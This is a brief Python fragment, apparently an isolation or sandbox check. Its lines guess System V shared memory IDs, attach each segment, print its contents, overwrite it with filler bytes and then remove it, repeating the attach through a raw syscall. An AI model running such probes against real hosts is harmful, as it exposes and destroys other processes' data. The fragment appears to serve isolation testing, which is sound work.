# held: System V shared memory by its number

libc.shmat.restype = ctypes.c_void_p
for number in range(max(0, host['queues'][0] - 2), host['queues'][0] + 3):
  place = libc.shmat(number, None, 0)
  if place not in (None, 2**64 - 1): print(ctypes.string_at(place, 64)); ctypes.memset(place, 65, 99)
  libc.shmctl(number, 0, None)
  libc.syscall(host['calls']['shmat'], number, None, 0)
